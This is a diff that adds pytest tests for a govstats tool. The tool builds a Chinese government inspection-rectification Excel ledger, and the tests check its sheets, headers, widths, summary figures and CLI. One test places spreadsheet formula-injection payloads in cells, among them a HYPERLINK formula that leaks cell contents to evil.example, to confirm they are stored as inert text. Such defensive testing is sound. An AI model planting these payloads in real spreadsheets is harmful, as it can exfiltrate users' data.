@@ -1,0 +1,122 @@
+"""整改台账 workbook: layout, Chinese headers, the seed's rows, and inert formula-like text."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from govstats import registry
+
+ROOT = Path(__file__).resolve().parents[3]
+
+
+@pytest.fixture(scope="module")
+def processed(tmp_path_factory) -> Path:
+    from govstats.ingest import ingest
+
+    out = tmp_path_factory.mktemp("processed")
+    ingest(ROOT / "data" / "raw" / "咸阳市", out, workers=1)
+    return out
+
+
+@pytest.fixture(scope="module")
+def seed_ledger(processed, tmp_path_factory) -> Path:
+    from govstats.report.ledger import write_ledger_for
+
+    return write_ledger_for("2025Q1", None, processed, tmp_path_factory.mktemp("ledger"))
+
+
+def _rows(ws) -> list[list]:
+    return [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
+
+
+def test_seed_ledger_layout(seed_ledger):
+    from openpyxl import load_workbook
+
+    assert seed_ledger.name == "2025Q1.xlsx"
+    wb = load_workbook(seed_ledger)
+    try:
+        assert wb.sheetnames == ["汇总", "政府网站", "政务新媒体", "一致性检查"]
+        for ws in wb:
+            assert ws.freeze_panes == "A2"
+            assert ws.auto_filter.ref == ws.dimensions
+            assert all(c.font.bold for c in ws[1])
+        web, nm = wb["政府网站"], wb["政务新媒体"]
+        web_head, nm_head = [c.value for c in web[1]], [c.value for c in nm[1]]
+        for col in ("site_name", "site_code", "problem", "problem_categories", "rectification", "region_name"):
+            assert registry.WEBSITES.column(col).label_zh in web_head
+        for col in ("account_name", "operator", "platform", "result", "problem", "rectification"):
+            assert registry.NEW_MEDIA.column(col).label_zh in nm_head
+        assert len(_rows(web)) == 5 and len(_rows(nm)) == 10  # the seed's 15 annex rows
+        # list column joined with "；", vocabularies shown in Chinese
+        cats = dict(zip(web_head, _rows(web)[0]))[registry.WEBSITES.column("problem_categories").label_zh]
+        assert "；" in cats
+        first = dict(zip(nm_head, _rows(nm)[0]))
+        assert first["账号名称"] == "红色云阳" and first["平台"] == "微信公众号" and first["检查结果"] == "不合格"
+        assert first["整改情况"] == "未整改"
+        codes = [dict(zip(web_head, r))["网站标识码"] for r in _rows(web)]
+        assert codes[0] == "6104810043"  # codes stay text
+        # widths fit Chinese text: count CJK characters as 2
+        col = web_head.index("网站名称")
+        width = web.column_dimensions[chr(ord("A") + col)].width
+        assert width >= 2 * len("咸阳市公安局交警支队")
+        summary = dict(zip([c.value for c in wb["汇总"][1]], _rows(wb["汇总"])[0]))
+        assert summary["新媒体合格率（通报）"] == 97.95 and summary["新媒体合格率（核算）"] == 97.95
+        assert summary["未整改新媒体数（通报）"] == 4 and summary["未整改条目数（附件）"] == 4
+        assert summary["反馈截止日期"].strftime("%Y-%m-%d") == "2025-02-28"
+        assert len(_rows(wb["一致性检查"])) >= 1
+        assert wb.properties.description.startswith("govstats ")
+    finally:
+        wb.close()
+
+
+def test_display_width_counts_cjk_double():
+    from govstats.report.ledger import display_width
+
+    assert display_width("abc") == 3
+    assert display_width("咸阳市") == 6
+    assert display_width("（）") == 4
+
+
+def test_formula_injection_is_inert(tmp_path, processed):
+    from openpyxl import load_workbook
+
+    from govstats.ingest import load_processed
+    from govstats.report.ledger import ledger_frames, write_ledger
+
+    t = load_processed(processed)
+    evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+2", "-3", "@SUM(A1:A9)"]
+    nm = t["new_media"].copy()
+    seed_rows = nm.index[nm["bulletin_id"] == "xianyang-2025q1"][: len(evil)]
+    for i, text in zip(seed_rows, evil):
+        nm.loc[i, "problem"] = text
+    nm.loc[seed_rows[0], "account_name"] = "=1+1"
+    t["new_media"] = nm
+    path = write_ledger(ledger_frames(t, "2025Q1"), tmp_path / "evil.xlsx")
+    wb = load_workbook(path)
+    try:
+        formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
+        assert formulas == []
+        ws = wb["政务新媒体"]
+        head = [c.value for c in ws[1]]
+        problems = [r[head.index("存在问题")] for r in _rows(ws)]
+        assert problems[: len(evil)] == evil  # stored verbatim, as text
+        col = chr(ord("A") + head.index("存在问题"))
+        for c in ws[col][1 : len(evil) + 1]:
+            assert c.data_type == "s" and c.quotePrefix
+        assert ws[f"{chr(ord('A') + head.index('账号名称'))}2"].value == "=1+1"
+    finally:
+        wb.close()
+
+
+def test_cli_ledger_prints_path_last(processed, tmp_path, capsys):
+    from govstats.cli import main
+
+    assert main(["ledger", "--quarter", "2025Q1", "--region", "咸阳市", "--data-dir", str(processed),
+                 "--out", str(tmp_path)]) == 0
+    last = capsys.readouterr().out.strip().splitlines()[-1]
+    assert Path(last) == tmp_path / "2025Q1-咸阳市.xlsx" and Path(last).exists()
+    assert main(["ledger", "--quarter", "2024Q2", "--data-dir", str(processed), "--out", str(tmp_path)]) == 2
+    err = capsys.readouterr().err
+    assert "2021Q1, 2025Q1" in err and len(err.strip().splitlines()) == 1
